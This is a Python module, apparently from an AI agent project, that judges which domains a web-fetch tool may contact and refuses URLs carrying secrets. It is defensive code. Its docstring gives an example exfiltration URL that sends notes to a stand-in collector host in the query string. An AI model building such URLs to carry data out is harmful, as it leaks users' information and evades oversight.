"""Which internet domains a session's web_fetch may contact, and which URLs are never fetched.

A fetched URL is a channel out: `https://collector.example/?d=<your notes>` delivers the data in
the request itself (and in the DNS query for its name). So before a name is even resolved:
1. a URL carrying something the secret masker would mask (a key, a token, a configured secret;
   also percent-encoded) is refused outright, whoever allowed the domain;
2. a domain listed in tools.web.allowDomains is allowed (`example.com` covers its subdomains);
3. a domain the user named in their own messages this session is allowed: "fetch
   https://example.com/page" just works (a URL, or a bare name such as docs.python.org);
4. any other domain needs the user: in the chat y (this once), a (always for this domain, this
   session) or n; one-shot mode refuses, naming `--approve web-domain` and tools.web.allowDomains.
The web tool asks (tools/web.py); this module only judges. It is pure: no I/O, no DNS.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from dataclasses import dataclass, field
from urllib.parse import unquote, urlsplit

from nanobot.secrets_mask import find_secrets

__all__ = ["EgressPolicy", "Verdict", "domain_of", "named_domains"]

# a URL, or a bare host name with a dot and a known-looking top-level label
_URL = re.compile(r"\bhttps?://([^\s/?#\"'<>]+)", re.I)
_BARE = re.compile(
    r"(?<![\w@/.-])((?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z]{2,24})(?![\w-])", re.I
)
_FILE_SUFFIXES = frozenset(
    {
        "md",
        "txt",
        "py",
        "json",
        "csv",
        "js",
        "ts",
        "html",
        "htm",
        "yaml",
        "yml",
        "toml",
        "log",
        "sh",
        "cfg",
        "ini",
        "xml",
        "png",
        "jpg",
        "jpeg",
        "gif",
        "pdf",
        "zip",
        "gz",
        "tar",
        "lock",
        "conf",
        "rs",
        "go",
        "java",
        "rb",
        "php",
        "css",
        "sql",
        "db",
    }
)


def domain_of(url: str) -> str:
    """The host of `url`, lower case, without port, user info or a trailing dot ("" if none)."""
    try:
        host = urlsplit(url.strip()).hostname or ""
    except ValueError:
        return ""
    return host.rstrip(".").lower()


def named_domains(text: str) -> set[str]:
    """The domains a person named in `text`: hosts of URLs, and bare names like docs.python.org
    (not file names such as notes.md)."""
    found = {
        h.rsplit("@", 1)[-1].split(":")[0].rstrip(".").lower() for h in _URL.findall(text or "")
    }
    for name in _BARE.findall(text or ""):
        if name.rsplit(".", 1)[-1].lower() not in _FILE_SUFFIXES:
            found.add(name.rstrip(".").lower())
    return {d for d in found if d}


def _covers(pattern: str, domain: str) -> bool:
    if pattern.strip() == "*":
        return True
    pattern = pattern.strip().lower().lstrip("*").lstrip(".").rstrip(".")
    return bool(pattern) and (domain == pattern or domain.endswith("." + pattern))


@dataclass(frozen=True)
class Verdict:
    domain: str
    allowed: bool = False  # no question needed
    refused: str = ""  # refused outright, whoever would allow it (why)
    by: str = ""  # what allowed it


@dataclass
class EgressPolicy:
    """One session's answer to "may web_fetch contact this URL?" (see the module docstring)."""

    allow_domains: tuple[str, ...] = ()  # tools.web.allowDomains
    user_named: set[str] = field(default_factory=set)  # domains the user named this session

    @classmethod
    def from_config(cls, allow_domains: Iterable[str]) -> EgressPolicy:
        return cls(tuple(d for d in allow_domains if d and d.strip()))

    def note_user_text(self, text: str) -> None:
        """The user's own message: the domains it names count as approved for this session."""
        self.user_named |= named_domains(text)

    def judge(self, url: str) -> Verdict:
        domain = domain_of(url)
        try:
            urlsplit(url.strip())
        except ValueError:
            return Verdict(domain, refused="the URL cannot be read")
        for form in (url, unquote(url), unquote(unquote(url))):
            _, found = find_secrets(form)
            if found:
                return Verdict(
                    domain,
                    refused=f"the URL carries {' and '.join(found)}; a secret never leaves "
                    "in a URL",
                )
        if urlsplit(url.strip()).scheme.lower() not in ("http", "https"):
            return Verdict(domain, refused="only http and https URLs can be fetched")
        if not domain:
            return Verdict(domain, refused="the URL has no host")
        for pattern in self.allow_domains:
            if _covers(pattern, domain):
                return Verdict(domain, allowed=True, by=f"tools.web.allowDomains ({pattern})")
        if any(_covers(named, domain) for named in self.user_named):
            return Verdict(domain, allowed=True, by="named by the user")
        return Verdict(domain)
